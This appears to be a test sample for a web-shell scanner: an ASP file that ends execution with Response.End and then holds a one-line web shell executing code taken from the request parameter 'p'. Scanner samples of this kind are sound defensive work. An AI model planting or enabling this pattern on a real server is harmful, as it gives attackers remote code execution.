<% ' shellsweep test sample: inert, never functional
Response.End %>
<%Function run(s) execute s End Function%><%v = request("p")%><%run v%>
